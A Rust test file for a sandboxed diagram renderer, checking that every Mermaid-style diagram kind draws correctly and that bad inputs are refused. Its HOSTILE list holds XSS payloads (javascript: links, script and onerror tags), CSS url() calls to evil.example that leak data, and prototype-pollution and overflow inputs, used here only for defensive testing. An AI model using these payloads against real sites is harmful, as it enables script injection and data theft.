//! Diagrams, drawn in the process that reads apart: every kind, and what hostile texts come to.

#![allow(clippy::unwrap_used, clippy::panic, missing_docs)]

use std::time::Duration;

use fluxchat_extract::Reader;
use fluxchat_model::{
    DiagramKind, DiagramRefusal, DiagramTheme, PathStep, Scene, SceneForm, SceneShape,
};

const NOW: i64 = 1_800_000_000_000;

fn reader() -> Reader {
    Reader::of(env!("CARGO_BIN_EXE_fluxchat-extract").into())
}

fn drawn(text: &str) -> Result<Scene, DiagramRefusal> {
    reader().diagram(DiagramTheme::Light, NOW, text)
}

/// A seed of the fuzzer: one of each kind.
fn sample(name: &str) -> String {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/seeds/diagrams");
    std::fs::read_to_string(folder.join(format!("{name}.mmd"))).unwrap()
}

fn words(scene: &Scene) -> Vec<String> {
    let texts = scene.shapes.iter().filter_map(|shape| match &shape.form {
        SceneForm::Text { runs, .. } => Some(runs.iter().map(|run| run.text.as_str()).collect()),
        _ => None,
    });
    texts.collect()
}

#[test]
fn every_kind_is_drawn_for_light_and_dark_paper() {
    for (name, kind, said) in [
        ("architecture", DiagramKind::Architecture, "Storage"),
        ("block", DiagramKind::Block, "A wide one"),
        ("c4", DiagramKind::C4, "Internet Banking System"),
        ("class", DiagramKind::Class, "+isMammal() : bool"),
        (
            "entity_relationship",
            DiagramKind::EntityRelationship,
            "LINE-ITEM",
        ),
        ("flowchart", DiagramKind::Flowchart, "Customer asks"),
        ("gantt", DiagramKind::Gantt, "Task in Another"),
        ("git_graph", DiagramKind::GitGraph, "develop"),
        ("journey", DiagramKind::Journey, "Make tea"),
        ("kanban", DiagramKind::Kanban, "Documentation"),
        ("mindmap", DiagramKind::Mindmap, "Long history"),
        ("packet", DiagramKind::Packet, "Source Port"),
        ("pie", DiagramKind::Pie, "Pets adopted"),
        ("quadrant", DiagramKind::Quadrant, "Campaign A"),
        ("radar", DiagramKind::Radar, "Science"),
        ("requirement", DiagramKind::Requirement, "test_entity"),
        ("sankey", DiagramKind::Sankey, "Losses 26.86"),
        ("sequence", DiagramKind::Sequence, "Hello Bob, how are you?"),
        ("state", DiagramKind::State, "Moving"),
        ("timeline", DiagramKind::Timeline, "LinkedIn"),
        ("treemap", DiagramKind::Treemap, "Leaf 1.2.1"),
        ("xy_chart", DiagramKind::XyChart, "Sales Revenue"),
    ] {
        let text = sample(name);
        let light = drawn(&text).unwrap_or_else(|why| panic!("{name}: {why:?}"));
        assert_eq!(light.kind, kind, "{name}");
        assert!(light.holds() && light.shapes.len() > 5, "{name}");
        let found = words(&light);
        assert!(found.iter().any(|it| it == said), "{said} in {found:?}");
        let dark = reader().diagram(DiagramTheme::Dark, NOW, &text).unwrap();
        assert_eq!(words(&dark), found, "{name} says the same");
        assert_ne!(dark, light, "{name} has other colours");
        let again = drawn(&text).unwrap();
        assert_eq!(again, light, "{name} is the same each time");
    }
}

#[test]
fn pictures_have_their_titles_their_arrows_and_their_emphasis() {
    let scene = drawn(&sample("flowchart")).unwrap();
    assert_eq!(scene.title.as_deref(), Some("Ordering a book"));
    let classes = drawn(&sample("class")).unwrap();
    let runs: Vec<_> = classes
        .shapes
        .iter()
        .filter_map(|shape| match &shape.form {
            SceneForm::Text { runs, .. } => Some(runs),
            _ => None,
        })
        .flatten()
        .collect();
    assert!(
        runs.iter().any(|run| run.bold) && runs.iter().any(|run| run.italic),
        "{runs:?}"
    );
    let is_head = |shape: &&SceneShape| {
        let SceneForm::Path { steps } = &shape.form else {
            return false;
        };
        shape.fill.is_some()
            && shape.at.is_none()
            && matches!(steps.last(), Some(PathStep::Close))
            && steps.len() == 4
    };
    assert!(
        scene.shapes.iter().filter(is_head).count() >= 6,
        "what lines end with is a shape"
    );
    let pink = scene
        .shapes
        .iter()
        .find(|shape| shape.fill == Some(0xff_99_ff_ff))
        .unwrap();
    assert_eq!(
        (pink.stroke, pink.width),
        (Some(0x33_33_33_ff), 4.0),
        "as the answer painted it"
    );
    let said =
        drawn("flowchart LR\naccTitle: A short way\naccDescr: From one to two\nA-->B").unwrap();
    assert_eq!(said.title.as_deref(), Some("A short way"));
    assert_eq!(said.description.as_deref(), Some("From one to two"));
}

#[test]
fn a_milestone_stands_where_its_day_is() {
    let scene = drawn(&sample("gantt")).unwrap();
    let [left, top, width, height] = scene.view;
    let turned = |shape: &&SceneShape| match shape.at {
        Some([a, b, ..]) => a > 0.0 && (a - b).abs() < 1e-3,
        None => false,
    };
    let milestone = scene.shapes.iter().find(turned).unwrap();
    let (
        Some([a, b, c, d, e, f]),
        SceneForm::Rect {
            x,
            y,
            width: w,
            height: h,
            ..
        },
    ) = (milestone.at, &milestone.form)
    else {
        panic!("{milestone:?}");
    };
    let (x, y) = (x + w / 2.0, y + h / 2.0);
    let middle = [a * x + c * y + e, b * x + d * y + f];
    // Turned around its own middle, it is where it was.
    assert!(
        (middle[0] - x).abs() < 1.0 && (middle[1] - y).abs() < 1.0,
        "{middle:?} and {x}, {y}"
    );
    assert!((left..left + width).contains(&middle[0]) && (top..top + height).contains(&middle[1]));
}

#[test]
fn a_colour_that_is_none_leaves_what_there_was() {
    let fills = |style: &str| -> Vec<_> {
        let text = format!("flowchart TD\nA[x] --> B\n{style}");
        let scene = drawn(&text).unwrap();
        scene.shapes.iter().map(|it| (it.fill, it.stroke)).collect()
    };
    let plain = fills("");
    assert_ne!(
        fills("style A fill:#ff99ff,stroke:#333"),
        plain,
        "the control arm"
    );
    assert_eq!(fills("style A fill:bluish,stroke:bluish"), plain);
}

#[test]
fn a_title_is_words() {
    for (title, want) in [
        ("Latency < 5 ms", "Latency < 5 ms"),
        ("Fish & <b>chips</b>", "Fish & chips"),
        ("\"a\\uFFFEb\"", "ab"),
    ] {
        let text = format!("---\ntitle: {title}\n---\nflowchart LR\nA-->B");
        let scene = drawn(&text).unwrap();
        assert_eq!(scene.title.as_deref(), Some(want));
    }
}

#[test]
fn what_is_too_deep_is_not_drawn_in_part() {
    let nested = |depth: usize| {
        let open: String = (0..depth).map(|it| format!("subgraph s{it}\n")).collect();
        format!("flowchart TD\n{open}innermost\n{}", "end\n".repeat(depth))
    };
    let few = drawn(&nested(5)).unwrap();
    assert!(
        words(&few).iter().any(|it| it == "innermost"),
        "the control arm"
    );
    assert_eq!(drawn(&nested(60)), Err(DiagramRefusal::TooLarge));
}

#[test]
fn what_cannot_be_drawn_says_why() {
    for (text, why) in [
        ("", DiagramRefusal::UnknownKind),
        ("no diagram at all", DiagramRefusal::UnknownKind),
        (
            "flowchart TD\n  A[never closed --> B",
            DiagramRefusal::NotUnderstood,
        ),
        ("sequenceDiagram\n  Alice->>", DiagramRefusal::NotUnderstood),
        ("pie\n \"a\" : many", DiagramRefusal::NotUnderstood),
    ] {
        assert_eq!(drawn(text), Err(why), "{text:?}");
    }
    let long = format!("flowchart TD\n%% {}\nA-->B", "x".repeat(64 << 10));
    assert_eq!(drawn(&long), Err(DiagramRefusal::TooLong));
    let hurried = reader().with_patience(Duration::ZERO);
    let refused = hurried.diagram(DiagramTheme::Light, NOW, &sample("pie"));
    assert_eq!(refused, Err(DiagramRefusal::Stopped));
    let other = Reader::of("/nowhere/at/all".into());
    let refused = other.diagram(DiagramTheme::Light, NOW, &sample("pie"));
    assert_eq!(refused, Err(DiagramRefusal::NoReader));
}

/// Texts that would be more than shapes, if they could.
const HOSTILE: &[&str] = &[
    "flowchart TD\nA[x] --> B\nclick A \"javascript:alert(1)\" \"tip\" _self",
    "flowchart TD\nA[x] --> B\nclick A href \"https://evil.example/?q=SECRET\" _blank",
    "flowchart TD\nA[x] --> B\nclick A call alert(1)",
    "flowchart TD\nA[\"<img src=x onerror=alert(1)>\"] --> B[\"<script>alert(1)</script>\"]",
    "flowchart TD\nA[\"<iframe srcdoc='<script>alert(1)</script>'></iframe>\"]",
    "flowchart TD\nA[\"<a href='javascript:alert(1)'>x</a>\"]",
    "flowchart TD\nA[\"<svg onload=alert(1)><foreignObject><body onload=alert(1)>\"]",
    "flowchart TD\nA[\"#60;img src=x onerror=alert(1)#62;\"]",
    "flowchart TD\nA@{ img: \"https://evil.example/p.png\", label: \"x\", w: 60, h: 60 }",
    "flowchart TD\nA@{ icon: \"fa:user\", form: \"square\", label: \"x\" }",
    "flowchart TD\nA:::x --> B\nclassDef x fill:url(https://evil.example/),background:url(x),stroke:expression(alert(1))",
    "flowchart TD\nA --> B\nstyle A fill:#fff;}</style><script>alert(1)</script>",
    "flowchart TD\nA --> B\nlinkStyle 0 stroke:url(#x),filter:url(https://evil.example/f.svg#f)",
    "flowchart TD\nA[\"`[x](javascript:alert(1))`\"]",
    "flowchart TD\nA[\"$$\\href{javascript:alert(1)}{x}$$\"]",
    "%%{init: {\"themeCSS\": \"*{background:url(https://evil.example/?leak)}\"}}%%\nflowchart TD\nA-->B",
    "%%{init: {\"themeCSS\": \"</style><script>alert(1)</script>\", \"securityLevel\": \"loose\"}}%%\nflowchart TD\nA-->B",
    "%%{init: {\"themeVariables\": {\"primaryColor\": \"url(javascript:alert(1))\"}, \"theme\": \"base\"}}%%\nflowchart TD\nA-->B",
    "%%{init: {\"fontFamily\": \"x;}</style><script>alert(1)</script>\"}}%%\nsequenceDiagram\nA->>B: x",
    "%%{init: {\"secure\": [], \"securityLevel\": \"loose\", \"flowchart\": {\"htmlLabels\": true}, \"dompurifyConfig\": {\"ADD_TAGS\": [\"script\"]}}}%%\nflowchart TD\nA[\"<script>alert(1)</script>\"]",
    "%%{init: {\"__proto__\": {\"x\": 1}, \"constructor\": {\"prototype\": {\"y\": 1}}}}%%\nflowchart TD\nA-->B",
    "---\nconfig:\n  themeCSS: \"@import url(https://evil.example/x.css)\"\n  securityLevel: loose\n---\nflowchart TD\nA-->B",
    "---\ntitle: <img src=x onerror=alert(1)>\n---\nflowchart TD\nA-->B",
    "sequenceDiagram\nparticipant A as <img src=x onerror=alert(1)>\nA->>A: <script>alert(1)</script>",
    "sequenceDiagram\nparticipant A\nlink A: Evil @ javascript:alert(1)\nlinks A: {\"x\": \"javascript:alert(1)\"}\nA->>A: x",
    "classDiagram\nclass A[\"<img src=x onerror=alert(1)>\"]\nlink A \"javascript:alert(1)\" \"tip\"\nclick A call alert(1)",
    "classDiagram\nclass A\nclick A href \"javascript:alert(1)\"\nnote for A \"<script>alert(1)</script>\"",
    "stateDiagram-v2\nstate \"<script>alert(1)</script>\" as s\ns --> s\nclick s \"javascript:alert(1)\"",
    "gantt\ntitle <script>alert(1)</script>\nsection a\nx :a1, 2027-01-01, 1d\nclick a1 href \"javascript:alert(1)\"\nclick a1 call alert(1)",
    "pie title <img src=x onerror=alert(1)>\n\"<script>alert(1)</script>\" : 1",
    "mindmap\n root((<img src=x onerror=alert(1)>))\n  ::icon(fa fa-x\" onload=\"alert(1))\n  x",
    "gitGraph\ncommit id: \"<script>alert(1)</script>\" tag: \"<img src=x onerror=alert(1)>\"",
    "journey\ntitle <script>alert(1)</script>\nsection <img src=x onerror=alert(1)>\n x: 5: <b>me</b>",
    "timeline\ntitle <script>alert(1)</script>\n2002 : <img src=x onerror=alert(1)>",
    "erDiagram\n\"<script>alert(1)</script>\" ||--o{ B : \"<img src=x onerror=alert(1)>\"",
    "C4Context\nPerson(a, \"<script>alert(1)</script>\", $sprite=\"https://evil.example/x.png\", $link=\"javascript:alert(1)\")",
    "architecture-beta\nservice a(\"<img src=x onerror=alert(1)>\")[x]",
    "kanban\n a[<script>alert(1)</script>]\n  b[x]@{ ticket: \"javascript:alert(1)\" }",
    "quadrantChart\nA: [NaN, 0.5]\nB: [Infinity, 1e999]",
    "xychart-beta\nbar [1e308, 1e309, -1e308]\nline [NaN]",
    "pie\n\"a\" : 1e308\n\"b\" : 1e308",
    "packet-beta\n0-99999999999: \"x\"",
    "gantt\nx :a, 0001-01-01, 99999999d",
    "radar-beta\naxis a,b,c\ncurve x{1e308, -1e308, 0}\nmax 0",
    "treemap-beta\n\"a\": 1e308\n\"b\": -1",
    "sankey-beta\na,b,1e308\nb,a,1e308",
    "flowchart TD\nA[\"\u{202e}txt.exe \u{e0041}\u{200b}\"] --> B",
];

#[test]
fn hostile_texts_become_words_and_shapes_or_nothing() {
    let mut pictures = 0;
    for text in HOSTILE {
        fluxchat_extract::fuzz_diagram(text.as_bytes());
        // A process that was ended would be a way to keep it busy, but nothing worse.
        let Ok(scene) = drawn(text) else { continue };
        pictures += 1;
        assert!(scene.holds(), "{text}");
        for said in words(&scene) {
            assert!(!said.contains("evil.example"), "{said} of {text}");
        }
    }
    assert!(
        pictures > HOSTILE.len() / 2,
        "most are pictures: {pictures}"
    );
}

#[test]
fn texts_that_grow_are_ended() {
    let many: String = (0..6_000)
        .map(|at| format!("a{at}-->a{}\n", at + 1))
        .collect();
    let edges = (0..70).flat_map(|a| (0..70).map(move |b| format!("a{a}-->b{b}\n")));
    let deep = (0..1_500)
        .map(|at| format!("subgraph s{at}\n"))
        .collect::<String>();
    let nested = format!("{}x", "(".repeat(20_000));
    for text in [
        format!("flowchart TD\n{many}"),
        format!("flowchart TD\n{}", edges.collect::<String>()),
        format!("flowchart TD\n{deep}a-->b\n{}", "end\n".repeat(1_500)),
        format!("flowchart TD\nA[{}]", "[".repeat(30_000)),
        format!("mindmap\n{nested}"),
        format!(
            "%%{{init: {}{}}}%%\nflowchart TD\nA-->B",
            "{\"a\":".repeat(9_000),
            "}".repeat(9_000)
        ),
        format!("---\na: {}\n---\nflowchart TD\nA-->B", "[".repeat(30_000)),
        format!("sequenceDiagram\n{}A->>B: x", "loop x\n".repeat(4_000)),
        format!(
            "packet-beta\n{}",
            (0..3_000)
                .map(|at| format!("{at}: \"x\"\n"))
                .collect::<String>()
        ),
    ] {
        let begun = std::time::Instant::now();
        if let Ok(scene) = drawn(&text) {
            assert!(scene.holds());
        }
        assert!(begun.elapsed() < Duration::from_secs(40), "{}", &text[..40]);
    }
}
